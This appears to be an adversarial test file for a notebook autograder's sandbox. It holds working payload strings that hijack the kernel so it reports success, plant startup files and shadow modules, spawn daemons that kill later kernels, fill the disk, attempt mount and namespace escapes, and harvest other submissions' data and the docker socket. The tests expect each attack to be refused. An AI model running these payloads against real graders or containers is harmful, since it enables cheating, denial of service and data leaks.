"""Our own attacks on what comes next: the second notebook's kernel, a kernel of one's own, the next submission.

Two notebooks share a work folder but not a kernel. In these cases the first one prepares the ground, the second
one holds the (wrong) work.
"""

# ruff: noqa: E501 - attacks are told in long lines

from __future__ import annotations

from collections.abc import Sequence

from tests.adversarial.harness import (
    MARK,
    NO_MARKS,
    Batch,
    Build,
    Case,
    Expect,
    as_bytes,
    code_cell,
    release_notebook,
    wrong,
    zip_of,
)
from tests.adversarial.protocol.talk import PIPES, TALK
from tests.adversarial.secrets.tries import assert_all_refused, tries

ASSIGNMENT = "assignment_seams"

BROKEN = "kernel_died|output_too_large|timed_out"
DOUBTED = {**NO_MARKS, "mean": "failed|waiting|not_run"}
RAN = "LEFT" + "OVER-RAN"


def two(first: Sequence[str], *, extra_before: Sequence[str] = (), extra_after: Sequence[str] = ()) -> Build:
    """A first notebook of these cells, and a second one with the work, wrong in every part."""
    opening = {
        "cells": [code_cell(text, f"first-{number}") for number, text in enumerate(first)],
        "metadata": {}, "nbformat": 4, "nbformat_minor": 5,
    }  # fmt: skip
    work = release_notebook(right=False, extra_before=extra_before, extra_after=extra_after)
    return zip_of({"lab.ipynb": as_bytes(opening), "work.ipynb": as_bytes(work)})


# The kernel's own connection file, and the folder whose sockets exist already.
RESTART = r"""
import os, sys
arguments = open("/proc/self/cmdline").read().rstrip("\0").split("\0")
os.execv(arguments[0], arguments)
"""
# A program of one's own goes on with the listening sockets and answers `ok` to everything.
STAND_IN = r"""
import hashlib, hmac, json, sys, zmq
shell_fd, iopub_fd, key = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].encode()
context = zmq.Context()
shell, iopub = context.socket(zmq.ROUTER), context.socket(zmq.PUB)
shell.setsockopt(zmq.USE_FD, shell_fd); iopub.setsockopt(zmq.USE_FD, iopub_fd)
shell.bind("ipc:///tmp/stand-in-1"); iopub.bind("ipc:///tmp/stand-in-2")
def send(socket, to, kind, parent, content):
    parts = [json.dumps(one).encode() for one in
             ({"msg_id": "s", "msg_type": kind, "version": "5.3"}, parent, {}, content)]
    mac = hmac.new(key, digestmod=hashlib.sha256)
    for one in parts: mac.update(one)
    socket.send_multipart([to, b"<IDS|MSG>", mac.hexdigest().encode(), *parts])
while True:
    to, _, _, header, *_, content = shell.recv_multipart()
    parent, code = json.loads(header), json.loads(content).get("code", "")
    status = "error" if code.startswith("value_") else "ok"
    send(shell, to, "execute_reply", parent, {"status": status, "execution_count": 1, "ename": "NameError",
         "evalue": "", "traceback": [], "payload": [], "user_expressions": {}})
    send(iopub, b"x", "status", parent, {"execution_state": "idle"})
"""
TAKEN_OVER = (
    TALK
    + PIPES
    + "STAND_IN = "
    + repr(STAND_IN)
    + r"""
listening = {port: numbers[0] for port, numbers in sockets(True).items() if port}
open("/tmp/stand_in.py", "w").write(STAND_IN)
for port in "12":
    os.set_inheritable(listening[port], True)
os.execv(sys.executable, [sys.executable, "/tmp/stand_in.py", str(listening["1"]), str(listening["2"]),
                          session.key.decode()])
"""
)
# Files that start-up code might read. Whatever runs them says so.
SAYS_SO = f"import os\nopen('/tmp/{MARK}', 'a').write('x')\nprint('LEFT' + 'OVER-RAN')\n"
LEFTOVERS = f"""
import glob, json, os, pathlib, site, sys
says_so = {SAYS_SO!r}
home = pathlib.Path(os.path.expanduser("~"))
places = {{
    "start-up": [".ipython/profile_default/startup/00.py", ".ipython/profile_default/startup/00.ipy",
                 ".ipython/profile_default/ipython_config.py", ".ipython/profile_default/ipython_kernel_config.py",
                 ".jupyter/jupyter_config.py", ".jupyter/jupyter_notebook_config.py", ".pythonrc", ".python_startup.py",
                 ".config/ipython/profile_default/startup/00.py", ".local/etc/ipython/ipython_config.py",
                 ".local/lib/python3.11/site-packages/usercustomize.py", ".local/lib/python3.11/site-packages/x.pth",
                 ".local/share/jupyter/kernels/python3/kernel.json", ".profile", ".bashrc", ".shrc"],
}}
for name in places["start-up"]:
    (home / name).parent.mkdir(parents=True, exist_ok=True)
    (home / name).write_text(says_so)
for folder in {{"/workspace", "/tmp", os.environ.get("TMPDIR", "/tmp"), os.getcwd(), "/dev/shm"}}:
    for name in ("sitecustomize", "usercustomize", "ipykernel_launcher", "ipykernel", "IPython", "zmq", "traitlets",
                 "jupyter_client", "tornado", "hashlib", "json", "base64", "hmac", "asyncio", "selectors", "weakref",
                 "matplotlib_inline", "debugpy", "psutil", "comm", "functools", "types", "_nbverdict", "_nbverdict_ledger"):
        pathlib.Path(folder, name + ".py").write_text(says_so)
    for name in ("ipython_config.py", "ipython_kernel_config.py", "pyvenv.cfg", "x.pth", "python311._pth"):
        pathlib.Path(folder, name).write_text(says_so)
for profile in glob.glob("/tmp/ipython-*"):
    for name in ("startup/00.py", "ipython_config.py", "ipython_kernel_config.py"):
        path = pathlib.Path(profile, "profile_default", name)
        path.parent.mkdir(parents=True, exist_ok=True); path.write_text(says_so)
print("TRI" + "ED: leftovers")
"""
OLD_HOME = r"""
import os, shutil, stat
home = os.path.expanduser("~")
shutil.rmtree(home, ignore_errors=True)
"""
LOOP = OLD_HOME + "os.symlink(home, home)\n"
LOCKED = r"""
import os
for top in ("/tmp", "/workspace", "/dev/shm"):
    for folder, folders, files in os.walk(top, topdown=False):
        for name in files + folders:
            try: os.chmod(os.path.join(folder, name), 0)
            except OSError: pass
os.symlink("/proc/self/mem", "/tmp/matplotlib"); os.symlink("/dev/full", "/tmp/home2")
"""
FULL = r"""
import os
for top in ("/tmp", "/workspace"):
    try:
        with open(top + "/fill", "wb") as file:
            while True: file.write(b"x" * 1_000_000)
    except OSError: pass
try:
    for number in range(10**9): os.mkdir(f"/tmp/f{number}")
except OSError: pass
"""
# Two forks and a session of its own, deaf to what can be ignored; it waits for the second kernel's folder.
DAEMON = f"""
import os, signal, time
def daemon():
    os.setsid()
    if os.fork(): os._exit(0)
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while not os.path.exists("/conn/2"): time.sleep(0.02)
    while True:
        for folder in ("/conn", "/conn/1", "/conn/2", "/conn/3"):
            for name in ("k-1", "k-2", "kernel.json", "{MARK}"):
                for act in (os.unlink, lambda path: os.open(path, os.O_WRONLY | os.O_CREAT), lambda path: os.mkdir(path)):
                    try: act(os.path.join(folder, name))
                    except OSError: pass
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) not in (1, os.getpid()):
                for number in (signal.SIGSTOP, signal.SIGINT):
                    if b"kernel.json" in open(f"/proc/{{pid}}/cmdline", "rb").read():
                        try: os.kill(int(pid), number)
                        except OSError: pass
for turn in range(20):
    if os.fork() == 0:
        try: daemon()
        finally: os._exit(0)
time.sleep(0.3)
"""
CONNECTIONS = tries("connections", {
    "a new file": f"import os\nos.open('/conn/1/{MARK}', os.O_CREAT | os.O_WRONLY)\ngot = True",
    "a new file above": f"import os\nos.open('/conn/{MARK}', os.O_CREAT | os.O_WRONLY)\ngot = True",
    "a new folder": "import os\nos.mkdir('/conn/2')\ngot = True",
    "a link": "import os\nos.symlink('/etc/passwd', '/conn/1/k-9')\ngot = True",
    "a hard link": "import os\nos.link('/conn/1/kernel.json', '/conn/1/copy.json')\ngot = True",
    "unlink": "import os\nos.unlink('/conn/1/k-1')\ngot = True",
    "rename": "import os\nos.rename('/conn/1/k-1', '/conn/1/k-7')\ngot = True",
    "exchange": "import os\nos.rename('/conn/1', '/conn/3')\ngot = True",
    "write the file": "open('/conn/1/kernel.json', 'r+').write('{}')\ngot = True",
    "open the folder": "import os\nos.chmod('/conn/1', 0o777)\ngot = True",
    "own the folder": "import os\nos.chown('/conn/1', os.getuid(), os.getgid())\ngot = True",
    "a second socket": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('/conn/1/k-8')\ngot = True",
}) + "\nimport os\nfor port in '12345':\n    os.chmod('/conn/1/k-' + port, 0)"  # fmt: skip
MOUNTS = tries("mounts", {
    "write into what was handed in": f"open('/in/work/{MARK}', 'w').close()\ngot = True",
    "change what was handed in": "import os\nos.chmod('/in/work/lab.ipynb', 0o777)\ngot = True",
    "time of what was handed in": "import os\nos.utime('/in/work')\ngot = True",
    "every other mount": f'''
import os
allowed = ("/workspace", "/tmp", "/dev/shm", "/dev/mqueue", "/dev", "/proc", "/dev/pts")
got = []
for line in open("/proc/self/mountinfo"):
    place = line.split()[4]
    if place in allowed or place.startswith("/proc/"): continue
    try: os.close(os.open(os.path.join(place, "{MARK}"), os.O_CREAT | os.O_WRONLY)); got.append(place)
    except OSError: pass
    try: open(place, "r+b").write(b"x"); got.append(place)
    except OSError: pass
''',
    "mount": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
             "got = libc.mount(b'/tmp', b'/in', b'', 4096, None) == 0",
    "remount": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
               "got = libc.mount(b'none', b'/', b'', 32 | 4096, None) == 0",
    "user namespace": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                      "got = libc.unshare(0x10000000 | 0x20000) == 0",
    "umount": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\ngot = libc.umount2(b'/in', 2) == 0",
    "pivot": "import os\nos.chroot('/tmp')\ngot = True",
    "the interpreter's cache": f"import os, sys\ngot = []\nfor place in sys.path:\n    for inner in ('', '__pycache__'):\n"
        f"        name = os.path.join(place or '/', inner, '{MARK}')\n"
        "        if name.startswith(('/workspace', '/tmp')): continue\n"
        "        try: open(name, 'w').close(); got.append(name)\n        except OSError: pass",
})  # fmt: skip
# What would be met by the next submission, were anything kept.
SEEDS = f"""
import ctypes, mmap, os, socket, threading, time
for place in ("/tmp", "/workspace", "/dev/shm", "/dev/mqueue", os.path.expanduser("~"), "/conn", "/in", "/var/tmp", "/run"):
    for name in ("{MARK}", "left.json", ".hidden-{MARK}"):
        try:
            os.makedirs(place, exist_ok=True); open(os.path.join(place, name), "w").write("{MARK}")
        except OSError: pass
libc = ctypes.CDLL(None)
number = libc.shmget(0x6e6276, 4096, 0o1777)
libc.semget(0x6e6276, 1, 0o1777); libc.msgget(0x6e6276, 0o1777)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        held = []
        for name in ("\\0{MARK}", "/tmp/{MARK}.socket"):
            one = socket.socket(socket.AF_UNIX); one.bind(name); one.listen(); held.append(one)
        one = socket.socket(); one.bind(("127.0.0.1", 47131)); one.listen(); held.append(one)
        time.sleep(600)
    os._exit(0)
time.sleep(0.3)
print("TRI" + "ED: seeds")
"""
HARVEST = tries("harvest", {
    "files": f'''
import os
got = []
for top in ("/tmp", "/workspace", "/dev/shm", "/dev/mqueue", "/conn", "/in", "/var/tmp", "/run", "/home", "/root", "/mnt"):
    for folder, folders, files in os.walk(top):
        for name in files + folders:
            path = os.path.join(folder, name)
            if "{MARK}" in name or name == "left.json": got.append(path)
''',
    "processes": '''
import os
got = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in (1, os.getpid())
       and b"kernel.json" in open(f"/proc/{pid}/cmdline", "rb").read()]
''',
    "sockets": f"got = [line for line in open('/proc/net/unix') if '{MARK}' in line]",
    "abstract socket": f"import socket\nsocket.socket(socket.AF_UNIX).connect('\\0{MARK}')\ngot = True",
    "port": "import socket\nsocket.create_connection(('127.0.0.1', 47131), 1)\ngot = True",
    "shared memory": "import ctypes\ngot = ctypes.CDLL(None).shmget(0x6e6276, 4096, 0) >= 0",
    "semaphores": "import ctypes\ngot = ctypes.CDLL(None).semget(0x6e6276, 1, 0) >= 0",
    "queues": "import ctypes\ngot = ctypes.CDLL(None).msgget(0x6e6276, 0) >= 0",
}) + tries("names", {
    "names of others": '''
import os, re
texts = [repr(dict(os.environ)), os.uname().nodename]
for name in ("environ", "cmdline", "mountinfo", "cgroup", "mounts", "status"):
    for pid in ("self", "1"):
        try: texts.append(open(f"/proc/{pid}/{name}", errors="replace").read())
        except OSError: pass
for name in ("/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/etc/machine-id"):
    try: texts.append(open(name).read())
    except OSError: pass
got = re.findall("attack-x[0-9a-z-]*|honest-[0-9]+|student|submission|run_key|adversarial", " ".join(texts))
''',
    "the engine": '''
import os
got = [path for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/.dockerinit")
       if os.path.exists(path)]
''',
})  # fmt: skip


def first_then_wrong(*first: str, outcome: str, **more: str) -> Expect:
    return Expect(status="graded|pending", checks=DOUBTED, outcome=outcome, **more)


CASES: tuple[Case, ...] = (
    Case(
        id="X40-restart",
        title="Let the kernel start itself anew in its own process, with its own connection file.",
        promise="no-hiding",
        build=wrong(extra_after=[RESTART]),
        expect=Expect(checks=NO_MARKS, outcome=BROKEN),
    ),
    Case(
        id="X42-stand-in",
        title="Replace the kernel by a program of one's own that goes on with its sockets and answers `ok` to all.",
        promise="shared",
        build=wrong(extra_between=[TAKEN_OVER]),
        expect=Expect(status="graded|pending", checks=DOUBTED),
    ),
    Case(
        id="X43-leftovers",
        title="Leave start-up files, configurations and modules of the same names for the second notebook's kernel.",
        promise="no-configuration",
        build=two([LEFTOVERS], extra_after=["import os; print('kept', os.path.exists('/tmp/" + MARK + "'))"]),
        expect=Expect(checks=NO_MARKS, outcome="cell_failed"),
    ),
    Case(
        id="X44-daemons",
        title="Leave twenty daemons that stop, interrupt and replace whatever the second notebook's kernel is.",
        promise="contained",
        build=two([DAEMON]),
        expect=Expect(checks=NO_MARKS, outcome="cell_failed"),
    ),
    Case(
        id="X45-no-home",
        title="Make the home folder a link to itself and lock all else, so that no second kernel can start.",
        promise="no-hiding",
        build=two([LOOP + LOCKED]),
        expect=Expect(checks=NO_MARKS, outcome="cell_failed"),
    ),
    Case(
        id="X47-no-room",
        title="Leave no byte and no file name free for the second notebook's kernel.",
        promise="no-hiding",
        build=two([FULL]),
        expect=Expect(checks=NO_MARKS, outcome="disk_full|cell_failed"),
    ),
    Case(
        id="X48-connections",
        title="Add to, replace and lock the folder of the kernel's sockets; write into every mount, over what "
        "was handed in and into the image's own modules.",
        promise="contained",
        build=two([MOUNTS, CONNECTIONS]),
        expect=Expect(checks=NO_MARKS, outcome="cell_failed"),
    ),
    Case(
        id="X50-seeds",
        title="Leave files, sockets, shared memory, queues and a process for whoever comes next.",
        promise="clean",
        build=wrong([SEEDS]),
        expect=Expect(checks=NO_MARKS),
    ),
    Case(
        id="X51-harvest",
        title="Look for what an earlier submission left, and for names of students, runs and other containers.",
        promise="clean",
        build=wrong([HARVEST]),
        expect=Expect(checks=NO_MARKS),
    ),
)  # fmt: skip


def check(batch: Batch) -> None:
    """What was tried was tried to its end and got nothing; no leftover ran."""
    assert_all_refused(batch, "X48-connections", "connections", "mounts")
    assert_all_refused(batch, "X51-harvest", "harvest", "names")
    assert "TRIED: seeds" in batch.attacks["X50-seeds"].staff_page
    page = batch.attacks["X43-leftovers"].staff_page
    assert "TRIED: leftovers" in page and RAN not in page and "kept False" in page
